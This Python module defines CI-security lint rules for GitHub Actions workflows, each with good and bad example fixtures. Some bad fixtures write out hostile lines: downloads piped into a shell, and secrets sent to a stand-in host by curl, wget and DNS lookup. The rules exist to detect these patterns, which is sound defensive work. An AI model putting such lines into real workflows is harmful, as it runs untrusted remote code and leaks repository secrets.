"""WF: workflow files, judged on their text. A finding names the line and never quotes the file."""

import re
from collections.abc import Iterator

from portcullis_policy.examples.base import Example
from portcullis_policy.examples.workflow_files import CI, SOUND_CI, SOUND_RELEASE, ci, file, release
from portcullis_policy.facts import UNKNOWN
from portcullis_policy.mappings import cis, osps, scorecard, ssdf
from portcullis_policy.rule import Finding, Resource, ResourceRule, finding
from portcullis_policy.rules.workflows.judging import RunRule, WorkflowRule
from portcullis_policy.semantics import github as gh
from portcullis_policy.semantics.publishing.jobs import (
    piped_to_shell,
    prints_secret,
    uses_any_secret,
)
from portcullis_policy.semantics.publishing.leaks import leaks
from portcullis_policy.semantics.workflow_files.checkouts import foreign_actions
from portcullis_policy.semantics.workflow_files.files import (
    action_path,
    workflow_path,
)
from portcullis_policy.semantics.workflow_files.pins import is_pinned
from portcullis_policy.semantics.workflow_files.workflows import (
    At,
    UnreadableError,
    Workflow,
    compose,
    read,
)
from portcullis_policy.settings import Settings
from portcullis_policy.severity import Severity

_OUTSIDERS_START = ("pull_request_target", "workflow_run", "issue_comment")
_PULL_REQUESTS = frozenset({"pull_request", "pull_request_target"})
_HEAD = re.compile(
    r"github\.event\.(pull_request|workflow_run)\.(head|merge_commit)|github\.head_ref|refs/pull/"
    r"|github\.event\.(workflow_run\.)?(pull_requests|head_sha|head_branch)|github\.event\.issue\.number"
)
_FETCHES_HEAD = re.compile(r"\bgh\s+pr\s+(checkout|diff)\b|\bgit\s+.*\b(pull|refs/pull)/")


_ACTION = ".github/actions/say/action.yml"
_CREDENTIALS = "          persist-credentials: false\n"
_ELSEWHERE = f"""\
{_CREDENTIALS}          repository: octo/tools
          ref: main
          path: .tools
      - uses: ./.tools/setup
"""


def _with_secret(note: str, command: str) -> Example:
    """Return the CI workflow with a secret in TITLE, and another script."""
    return ci(
        note,
        ("${{ github.event.pull_request.title }}", "${{ secrets.KEY }}"),
        ('echo "$TITLE"', "true"),
        ("uv run pytest", command),
    )


class Readable(ResourceRule):
    """Workflow files and the repository's own actions (`action.yml`) are readable.

    The pack cannot judge what it cannot read, and a duplicate key means one thing to one reader and
    another to GitHub. Such a file is refused, and so is a content or path that is unknown at
    preview. A file is also unreadable if it is longer than 512 KiB or nested in more than 200
    levels.
    """

    id = "WF001"
    title = "a workflow file or a local action cannot be read"
    severity = Severity.HIGH
    resource_types = (gh.REPOSITORY_FILE,)
    remediation = (
        "Fix the YAML: `on:` and `jobs:` (an action: `runs:`), each key once; "
        "give the content as a literal."
    )
    good = (
        SOUND_RELEASE,
        SOUND_CI,
        Example("another file", (file("jobs: [", "docs/example.yml"),)),
        Example("a local action", (file("runs: {using: node24, main: a.js}", _ACTION),)),
    )
    bad = (
        Example("not YAML", (file("jobs: ["),)),
        Example("no jobs", (file("on: push\n"),)),
        ci("a key that is written twice", ("jobs:", "permissions: write-all\njobs:")),
        Example("unknown at preview", (file(UNKNOWN),)),
        Example("a path not known at preview", (file(CI, UNKNOWN),)),
        Example("a local action that is not YAML", (file("runs: [", _ACTION),)),
        Example("a local action that runs nothing", (file("name: say\n", _ACTION),)),
        Example("a local action unknown at preview", (file(UNKNOWN, _ACTION),)),
    )

    def findings(self, resource: Resource, settings: Settings) -> Iterator[Finding]:
        """See Rule."""
        del settings
        workflow, content = workflow_path(resource), resource.facts.text("content")
        path = workflow or action_path(resource)
        if resource.facts.text("file") is UNKNOWN:
            yield finding("its path cannot be seen, so it may be a workflow", value=UNKNOWN)
        if path is None:
            return
        if not isinstance(content, str):
            yield finding("its content cannot be seen", "files", path, value=UNKNOWN)
        elif workflow is not None and read(content) is None:
            yield finding("it is no workflow, or a key is given twice", "files", path)
        elif workflow is None and not _runs(content):
            yield finding("it is no action, or a key is given twice", "files", path)


def _runs(content: str) -> bool:
    """Say whether an action can be read, and runs something."""
    try:
        return compose(content).get("runs").is_mapping
    except UnreadableError:
        return False


class PermissionsAtTop(WorkflowRule):
    """A job gets the permissions that it states, or a top level that only reads.

    Otherwise it gets the organization's default, which may change. The top level matters only to
    jobs without `permissions` of their own; a workflow that others call gets their token, which the
    calling file limits. If one job alone inherits it, and no pull request starts the workflow, the
    top level is that job's own permission.
    """

    id = "WF004"
    title = "a workflow's permissions are missing, or wide at the top"
    severity = Severity.HIGH
    maps = (*scorecard("Token-Permissions"), *ssdf("PO.5.1"), *osps("AC-04.01", "AC-04.02"))
    remediation = "Write `permissions: {}` at the top, and what a job needs in the job."
    good = (
        SOUND_RELEASE,
        SOUND_CI,
        ci("`contents: none`", ("  contents: read", "  contents: none")),
        release("each job has its own", ("permissions: {}\n", "")),
        ci(
            "a workflow that only others call",
            ("[pull_request, push]", "workflow_call"),
            ("permissions:\n  contents: read\n", ""),
        ),
        ci(
            "one job alone",
            ("[pull_request, push]", "[schedule]"),
            ("  contents: read", "  issues: write"),
        ),
    )
    bad = (
        ci("no permissions at all", ("permissions:\n  contents: read\n", "")),
        release(
            "a job without permissions of its own, and none at the top",
            ("permissions: {}\n", ""),
            ("    permissions:\n      contents: read\n", ""),
        ),
        ci("`write-all`", ("permissions:\n  contents: read", "permissions: write-all")),
        ci("one permission to write", ("  contents: read", "  contents: write")),
        release(
            "`write-all` in a job",
            ("    permissions:\n      contents: read\n", "    permissions: write-all\n"),
        ),
    )

    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
        """See WorkflowRule."""
        del settings
        top = workflow.at.get("permissions")
        inheriting = [job for job in workflow.jobs if not job.at.get("permissions").given]
        if not top.given and inheriting and set(workflow.triggers) != {"workflow_call"}:
            yield (1, "no `permissions` at the top")
        writing = [each for each in top.items().values() if each.text.lower() == "write"]
        alone = len(inheriting) == 1 and not set(workflow.triggers) & _PULL_REQUESTS
        if writing and inheriting and not alone:
            yield (writing[0].line, "`permissions` at the top let every job write")
        for permissions in (top, *(job.at.get("permissions") for job in workflow.jobs)):
            if permissions.text.lower() == "write-all":
                yield (permissions.line, "`permissions: write-all`")


class NoStrangersCode(RunRule):
    """A workflow that outsiders can start with secrets does not run their code.

    `pull_request_target`, `workflow_run` and `issue_comment` run with the repository's secrets and
    a token that can write. If such a workflow checks out the pull request's head, anybody who opens
    a pull request can run any code with both.
    """

    id = "WF005"
    title = "a workflow runs an outsider's code with the repository's secrets"
    severity = Severity.CRITICAL
    maps = (*scorecard("Dangerous-Workflow"), *osps("BR-01.03"))
    remediation = "Use `pull_request`, or do not check out the head."
    good = (
        SOUND_CI,
        ci("checks out the base branch", ("[pull_request, push]", "pull_request_target")),
    )
    bad = (
        ci(
            "checks out the branch of the pull request",
            ("[pull_request, push]", "pull_request_target"),
            (
                "persist-credentials: false",
                "ref: ${{ github.event.pull_request.head.sha }}",
            ),
        ),
        ci(
            "the same in `workflow_run`, written differently",
            ("[pull_request, push]", "{workflow_run: {workflows: [ci]}}"),
            (
                "persist-credentials: false",
                "ref: ${{ github['event'].workflow_run.head_branch }}",
            ),
        ),
        ci(
            "by a git command, on a comment",
            ("[pull_request, push]", "[issue_comment]"),
            ("uv run pytest", 'gh pr checkout "$NUMBER"'),
        ),
    )

    def lines(self, workflow: Workflow) -> Iterator[tuple[int, str]]:
        """See RunRule."""
        if not set(workflow.triggers) & set(_OUTSIDERS_START):
            return
        for _, step in workflow.steps():
            if "checkout" in step.action:
                for value in step.at.get("with").items().values():
                    if _HEAD.search(re.sub(r"\[\s*'(\w+)'\s*\]", r".\1", value.text.lower())):
                        yield (value.line, "the head of a pull request is checked out")
            for line, text in step.run.lines():
                if _FETCHES_HEAD.search(text):
                    yield (line, "the head of a pull request is fetched")


class ActionsPinned(WorkflowRule):
    """An action is pinned to a full commit SHA.

    Anybody who takes over an action's repository can move its tags and branches, and a short SHA
    can be made to match another commit. The builders of slsa-github-generator are an exception:
    they refuse every reference but a tag with a full version.
    Source:
    https://github.com/slsa-framework/slsa-github-generator#referencing-slsa-builders-and-generators
    """

    id = "WF007"
    title = "an action is not pinned to a whole commit hash"
    of_actions = True
    severity = Severity.HIGH
    maps = (*scorecard("Pinned-Dependencies"), *cis("2.4.2"))
    remediation = "Write `owner/action@<40 digits> # v1.2.3`; Dependabot updates it."
    _BUILDER = (
        "on: push\njobs:\n  provenance:\n    uses: slsa-framework/slsa-github-generator/"
        ".github/workflows/generator_generic_slsa3.yml@v2.1.0\n"
    )
    good = (
        SOUND_RELEASE,
        ci(
            "an action of the same repository",
            (f"actions/checkout@{'a1' * 20}", "./.github/actions/setup"),
        ),
        ci(
            "one of its own repository, at the commit that runs",
            (f"actions/checkout@{'a1' * 20}", "$/.github/actions/setup"),
        ),
        Example("a builder that can only be named by its version", (file(_BUILDER),)),
        ci(
            "an action that is checked out at a commit",
            (_CREDENTIALS, _ELSEWHERE.replace("main", "c3" * 20)),
        ),
    )
    bad = (
        ci("an action by tag", (f"actions/checkout@{'a1' * 20}", "actions/checkout@v4")),
        ci(
            "an action by a short hash",
            (f"actions/checkout@{'a1' * 20}", f"actions/checkout@{'a1' * 4}"),
        ),
        ci("an action without a version", (f"actions/checkout@{'a1' * 20}", "actions/checkout")),
        ci("an image by tag", (f"actions/checkout@{'a1' * 20}", "docker://alpine:3")),
        ci("an action that is checked out from elsewhere", (_CREDENTIALS, _ELSEWHERE)),
        ci(
            "an action that is cloned",
            (
                "      - env:",
                (
                    "      - run: git clone https://git.example/x tools\n"
                    "      - uses: ./tools/setup\n      - env:"
                ),
            ),
        ),
        Example("a builder by a part of its version", (file(_BUILDER.replace("v2.1.0", "v2")),)),
        Example(
            "a workflow of another repository by branch",
            (file("on: push\njobs: {a: {uses: o/r/.github/workflows/x.yml@main}}\n"),),
        ),
    )

    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
        """See WorkflowRule."""
        del settings
        used: list[At] = [job.uses for job in workflow.jobs]
        used += [step.at.get("uses") for _, step in workflow.steps()]
        for uses in used:
            if not is_pinned(uses.text.strip()):
                yield (uses.line, "not pinned by a whole hash")
        for job in workflow.jobs:
            for line in foreign_actions(job):
                yield (line, "an action of another repository's branch or tag")


class SecretsNamed(WorkflowRule):
    """A called workflow gets only the secrets that it needs, by name.

    `secrets: inherit` passes everything that the repository and the organization have, including
    future secrets.
    """

    id = "WF008"
    title = "a called workflow or a step is given every secret"
    severity = Severity.HIGH
    maps = cis("2.1.7")
    remediation = "Name them: `secrets: {token: ${{ secrets.TOKEN }}}`."
    _CALL = (
        "on: push\npermissions: {}\njobs:\n  a:\n    uses: ./.github/workflows/x.yml\n    secrets: "
    )
    good = (SOUND_CI, Example("one secret, by name", (file(_CALL + "{t: '${{ secrets.T }}'}\n"),)))
    bad = (
        Example("`secrets: inherit`", (file(_CALL + "inherit\n"),)),
        ci(
            "`toJSON(secrets)` in a variable",
            ("github.event.pull_request.title", "toJSON(secrets)"),
        ),
        ci(
            "`join(secrets.*)` in a variable",
            ("github.event.pull_request.title", "join(secrets.*)"),
        ),
        ci(
            "for all steps of a job",
            ("    steps:", "    env: {ALL: '${{ toJSON(secrets) }}'}\n    steps:"),
        ),
        ci("in a script", ("uv run pytest", "./x '${{ toJSON(secrets) }}'")),
    )

    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
        """See WorkflowRule."""
        del settings
        for job in workflow.jobs:
            secrets = job.at.get("secrets")
            if secrets.text.lower() == "inherit":
                yield (secrets.line, "`secrets: inherit`")
        values = [*workflow.at.get("env").items().values()]
        for job in workflow.jobs:
            for block in ("env", "with", "secrets"):
                values += job.at.get(block).items().values()
        for _, step in workflow.steps():
            values += [*step.values(), step.at.get("run")]
        for value in values:
            if uses_any_secret(value.text):
                yield (value.line, "all secrets at once")


class NothingPipedToShell(WorkflowRule):
    """A workflow does not run what it has just downloaded.

    Anybody who controls the server or its domain name can run commands in the workflow, and nobody
    can tell afterwards which ones.
    """

    id = "WF011"
    title = "a workflow runs a script straight from the network"
    of_actions = True
    severity = Severity.MEDIUM
    maps = (*scorecard("Pinned-Dependencies"), *cis("2.4.2"), *osps("BR-05.01"))
    remediation = "Use a pinned action, or download a version and check its hash before it runs."
    good = (
        SOUND_CI,
        ci(
            "a download that is verified first",
            ("uv run pytest", "curl -o x https://x.example && sha256sum -c x.sum"),
        ),
    )
    bad = (
        ci(
            "a download piped into a shell",
            ("uv run pytest", "curl -sSf https://x.example/install | sh"),
        ),
        ci(
            "the same over two lines",
            ("uv run pytest", "wget -qO- https://x.example \\\n            | sudo bash"),
        ),
        ci("a download in a substitution", ("uv run pytest", "bash <(curl -s https://x.example)")),
    )

    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
        """See WorkflowRule."""
        del settings
        for _, step in workflow.steps():
            for line in piped_to_shell(step):
                yield (line, "what was downloaded is run at once")


class NoSecretPrinted(WorkflowRule):
    """No step prints a secret, keeps it in an artifact, or sends it away.

    GitHub masks a secret's exact value in logs, but nothing derived from it. Logs of public
    repositories are public, and so are artifacts, in which GitHub masks nothing. All secrets at
    once (`toJSON(secrets)`) should never be printed. The trace of a shell (`set -x`) prints the
    values of variables. A request may carry a secret by which it logs in, in a header or in a field
    for a token or a password; as any other part of the request, the secret is given away. An image
    keeps its build arguments.
    """

    id = "WF016"
    title = "a step prints a secret or gives it away"
    of_actions = True
    severity = Severity.HIGH
    maps = (*scorecard("Dangerous-Workflow"), *cis("2.3.8"))
    remediation = "Remove the line, and replace the secret if it ever ran."
    good = (
        SOUND_CI,
        ci(
            "piped into a program",
            ("uv run pytest", 'echo "${{ secrets.T }}" | docker login --password-stdin'),
        ),
        _with_secret("decoded into a file", 'echo "$TITLE" | base64 -d > key'),
        _with_secret("for a program", 'echo "$TITLE" | base64 | gpg --import'),
        _with_secret("without a trace", 'set -x; make; set +x\n          make KEY="$TITLE"'),
        _with_secret("a login", 'curl -d "client_secret=$TITLE" https://x.example/oauth/token'),
        _with_secret(
            "a header", 'curl -d @x.json -H "Authorization: Bearer $TITLE" https://x.example'
        ),
        _with_secret(
            "a file that is not kept",
            'echo "$TITLE" > key\n'
            f"      - uses: actions/upload-artifact@{'c3' * 20}\n        with: {{path: out}}",
        ),
        _with_secret("a variable for one program", "env COLOR=1 uv run pytest"),
        ci(
            "tests whether a secret is set",
            ("uv run pytest", "test -n '${{ secrets.T }}' && echo yes"),
        ),
    )
    bad = (
        ci("`echo` of a secret", ("uv run pytest", "echo ${{ secrets.TOKEN }}")),
        ci(
            "`echo` of a variable that holds a secret",
            ("${{ github.event.pull_request.title }}", "${{ secrets.TOKEN }}"),
        ),
        ci("all secrets", ("uv run pytest", "./x '${{ toJSON(secrets) }}'")),
        _with_secret("in another form", 'echo "$TITLE" | base64'),
        _with_secret("as the input of a program", 'rev <<< "$TITLE"'),
        _with_secret("with all variables", "env | sort"),
        _with_secret("in the summary", 'echo "$TITLE" >> "$GITHUB_STEP_SUMMARY"'),
        _with_secret("by the trace of a shell", 'set -x\n          make test KEY="$TITLE"'),
        _with_secret("in a request", 'curl -d "$TITLE" https://x.example'),
        _with_secret("in an address", 'wget "https://x.example/?k=$TITLE"'),
        _with_secret("in a name", "nslookup $TITLE.x.example"),
        _with_secret("in a comment", 'gh pr comment 1 --body "$TITLE"'),
        _with_secret("in an image", 'docker build --build-arg "KEY=$TITLE" .'),
        _with_secret(
            "in an artifact",
            'echo "$TITLE" > out/key\n'
            f"      - uses: actions/upload-artifact@{'c3' * 20}\n        with: {{path: out}}",
        ),
        _with_secret("by a program", "python -c \"print(os.environ['TITLE'])\""),
    )

    def lines(self, workflow: Workflow, settings: Settings) -> Iterator[tuple[int, str]]:
        """See WorkflowRule."""
        del settings
        for job, step in workflow.steps():
            for line in prints_secret(step, workflow.at.get("env"), job.at.get("env")):
                yield (line, "a secret is printed")
        for job in workflow.jobs:
            yield from leaks(job, workflow)


RULES = (
    Readable,
    PermissionsAtTop,
    NoStrangersCode,
    ActionsPinned,
    SecretsNamed,
    NothingPipedToShell,
    NoSecretPrinted,
)
